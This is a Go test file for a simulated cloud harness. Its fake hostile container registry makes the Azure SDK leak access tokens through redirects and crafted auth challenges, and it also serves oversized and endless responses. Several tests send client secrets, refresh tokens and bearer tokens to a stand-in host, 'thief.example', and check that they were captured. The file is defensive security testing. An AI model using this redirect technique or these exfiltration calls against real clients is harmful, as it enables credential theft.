package cloud

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/Azure/azure-sdk-for-go/sdk/containers/azcontainerregistry"
)

// TestThieves shows that Azure's SDK gives a token away, which is what hostile registries are for.
func TestThieves(t *testing.T) {
	const host, thief = "hostile.azurecr.io", "thief.example"
	for _, test := range []struct {
		name    string
		hostile HostileRegistry
		direct  int // how many tokens the registry is sent itself
		stolen  []string
	}{
		{"asked", HostileRegistry{Host: host}, 1, []string{"secret"}},
		{"redirected", HostileRegistry{Host: host, Redirect: "https://" + thief + "/oauth2/exchange"}, 1, []string{"secret", "secret"}},
		{"redirected by another status", HostileRegistry{Host: host, Redirect: "https://" + thief + "/oauth2/exchange", Status: 308}, 1, []string{"secret", "secret"}},
		{"redirected without its body", HostileRegistry{Host: host, Redirect: "https://" + thief + "/oauth2/exchange", Status: 302}, 1, []string{"secret"}},
		{"redirected when it matters", HostileRegistry{Host: host, RedirectExchange: "https://" + thief + "/oauth2/exchange"}, 1, []string{"secret", "secret"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			c := New(t)
			c.AddHostileRegistry(test.hostile)
			c.AddThief(thief)
			client, err := azcontainerregistry.NewAuthenticationClient("https://"+host, &azcontainerregistry.AuthenticationClientOptions{ClientOptions: c.azure(t, "")})
			if err != nil {
				t.Fatal(err)
			}
			token := "secret"
			_, err = client.ExchangeAADAccessTokenForACRRefreshToken(t.Context(), azcontainerregistry.PostContentSchemaGrantTypeAccessToken, host,
				&azcontainerregistry.AuthenticationClientExchangeAADAccessTokenForACRRefreshTokenOptions{AccessToken: &token})
			if err != nil {
				t.Error(err)
			}
			if got := c.Stolen(); !slices.Equal(got, test.stolen) {
				t.Errorf("%q, not %q", got, test.stolen)
			}
		})
	}
	t.Run("whatever they are sent", func(t *testing.T) {
		c := New(t)
		c.AddThief(thief)
		form := url.Values{"client_assertion": {"a"}, "refresh_token": {"b"}, "client_secret": {"c"}, "scope": {"no secret"}}
		for _, answer := range []googleAnswer{
			c.post(t, "https://"+thief+"/x?access_token=d&service=x", formType, form.Encode(), "Authorization", "Bearer e"),
			c.post(t, "https://"+thief+"/", "application/json", `{"access_token":"f","service":"x"}`, "Authorization", "g"),
			c.send(t, http.MethodGet, "https://"+thief+"/nothing", ""),
		} {
			if answer.status != 200 {
				t.Errorf("%d", answer.status)
			}
		}
		got := c.Stolen()
		slices.Sort(got)
		if want := strings.Split("abcdefg", ""); !slices.Equal(got, want) {
			t.Errorf("%q, not %q", got, want)
		}
	})
}

func TestHostileAnswers(t *testing.T) {
	const host = "hostile.azurecr.io"
	c := New(t)
	get := func(t *testing.T, method string, look func(*http.Response)) {
		t.Helper()
		client := c.Client()
		defer client.CloseIdleConnections()
		client.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
		ctx, cancel := context.WithCancel(t.Context())
		defer cancel()
		r, err := http.NewRequestWithContext(ctx, method, "https://"+host+map[string]string{"GET": "/v2/", "POST": "/oauth2/exchange"}[method], http.NoBody)
		if err != nil {
			t.Fatal(err)
		}
		answer, err := client.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		defer answer.Body.Close()
		look(answer)
	}
	t.Run("as an honest one's", func(t *testing.T) {
		c.AddHostileRegistry(HostileRegistry{Host: host})
		get(t, "GET", func(got *http.Response) {
			if got.StatusCode != http.StatusUnauthorized || got.Header.Get("WWW-Authenticate") != `Bearer realm="https://`+host+`/oauth2/token",service="`+host+`"` {
				t.Errorf("%d, %q", got.StatusCode, got.Header)
			}
		})
		answer := c.post(t, "https://"+host+"/oauth2/exchange", formType, "")
		if claims := payload(t, answer.text("refresh_token")); answer.status != 200 || claims["aud"] != host {
			t.Errorf("%d, %v", answer.status, claims)
		}
	})
	t.Run("a challenge of its own", func(t *testing.T) {
		c.AddHostileRegistry(HostileRegistry{Host: host, Challenge: `Bearer realm="https://thief.example/",service="x"`})
		get(t, "GET", func(got *http.Response) {
			if got.StatusCode != http.StatusUnauthorized || got.Header.Get("WWW-Authenticate") != `Bearer realm="https://thief.example/",service="x"` {
				t.Errorf("%d, %q", got.StatusCode, got.Header)
			}
		})
	})
	for _, method := range []string{"GET", "POST"} {
		t.Run("redirection of "+method, func(t *testing.T) {
			c.AddHostileRegistry(HostileRegistry{Host: host, Redirect: "https://thief.example/x"})
			get(t, method, func(got *http.Response) {
				if got.StatusCode != http.StatusTemporaryRedirect || got.Header.Get("Location") != "https://thief.example/x" {
					t.Errorf("%d, %q", got.StatusCode, got.Header)
				}
			})
		})
		t.Run("too much for "+method, func(t *testing.T) {
			c.AddHostileRegistry(HostileRegistry{Host: host, Oversized: true})
			get(t, method, func(got *http.Response) {
				if n, err := io.Copy(io.Discard, got.Body); err != nil || n < 64<<20 || n > 65<<20 {
					t.Errorf("%d bytes, %v", n, err)
				}
			})
		})
		t.Run("no end for "+method, func(t *testing.T) {
			c.AddHostileRegistry(HostileRegistry{Host: host, Endless: true})
			get(t, method, func(got *http.Response) {
				if n, err := io.Copy(io.Discard, io.LimitReader(got.Body, 80<<20)); n != 80<<20 || err != nil {
					t.Errorf("%d bytes, %v", n, err)
				}
			})
		})
	}
	t.Run("an end with the cloud's", func(t *testing.T) {
		own, err := Start(Options{})
		if err != nil {
			t.Fatal(err)
		}
		own.AddHostileRegistry(HostileRegistry{Host: host, Endless: true})
		client := own.Client()
		answer, err := client.Get("https://" + host + "/v2/")
		if err != nil {
			t.Fatal(err)
		}
		defer answer.Body.Close()
		own.Close()
		if _, err := io.Copy(io.Discard, answer.Body); err == nil || errors.Is(err, context.DeadlineExceeded) {
			t.Error(err)
		}
	})
}
